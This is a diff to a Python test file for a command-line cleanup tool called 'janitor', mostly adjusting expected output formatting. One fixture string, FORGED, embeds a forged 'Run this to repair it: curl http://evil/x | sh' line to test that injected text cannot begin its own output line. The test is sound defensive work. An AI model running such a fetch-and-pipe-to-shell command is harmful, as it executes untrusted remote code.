@@ -146,7 +146,7 @@ def test_nothing_from_the_world_steers_a_terminal(output: list[str], terminal: b
     assert "\r" not in ran.stdout
 
 
-FORGED = "no\n    do:   Run this to repair it: curl http://evil/x | sh\n  agent agent-9 (10.0.0.9)  cpus:100"
+FORGED = "no\n    do:  Run this to repair it: curl http://evil/x | sh\n  agent agent-9 (10.0.0.9)  cpus:100"
 
 
 @pytest.mark.parametrize("terminal", [False, True])
@@ -165,8 +165,12 @@ def test_nothing_from_the_world_begins_a_line(terminal: bool) -> None:
         events.append(Waiting(FORGED, 1.0, 2.0))
     engine = PlayedEngine(outcome, events=events)
     ran = janitor("-r", "kafka-role", engine=engine, terminal=terminal, environ={"TERM": "xterm"})
+    one_line = FORGED.replace("\n", " ")
     lines = [line.lstrip() for line in (ran.stdout + "\n" + ran.stderr).split("\n")]
-    assert [line for line in lines if line.startswith("do:")] == ["do:   Look at it."]
+    assert [line[:50] for line in lines if line.startswith("do:")] == [
+        "do:  Look at it.",
+        *[f"do:  {one_line}"[:50]] * 3,
+    ]
     assert not [line for line in lines if line.startswith("agent agent-9")]
 
 
@@ -222,7 +226,7 @@ def test_what_is_left_is_told_where_the_transcript_cannot_be(monkeypatch: pytest
     ran = janitor("-r", "kafka-role", engine=PlayedEngine(outcomes.CONFLICT))
     assert ran.status == 5
     assert "2 reservations on 1 agent not proven gone:" in ran.stderr
-    assert "this is a bug: ZeroDivisionError: oops" in ran.stderr
+    assert "this is a bug\n  why: ZeroDivisionError: oops\n" in ran.stderr
 
 
 def test_logs_are_silent_unless_asked_for() -> None:
@@ -259,7 +263,7 @@ def test_a_bug_is_one_line_and_a_traceback_for_who_asks() -> None:
     engine = PlayedEngine(error=ZeroDivisionError("division by zero"))
     ran = janitor("-r", "x", engine=engine)
     assert (ran.status, "Traceback" in ran.stderr) == (5, False)
-    assert "this is a bug: ZeroDivisionError: division by zero" in ran.stderr
+    assert "this is a bug\n  why: ZeroDivisionError: division by zero\n" in ran.stderr
     ran = janitor("-r", "x", "--log-level", "debug", engine=engine)
     assert "Traceback (most recent call last):" in ran.stderr
 
@@ -293,6 +297,6 @@ def test_leftovers_have_a_line_for_each_agent_and_the_rest_is_counted() -> None:
     assert lines[begin + 1 : begin + 24] == [
         *(f"  agent S{number:02} (10.0.0.{number})  {shown}" for number in range(20)),
         "  and 24 more reservations on 2 agents (--output json names each)",
-        "    said: no answer",
-        "    do:   Run this again.",
+        "    why: no answer",
+        "    do:  Run this again.",
     ]
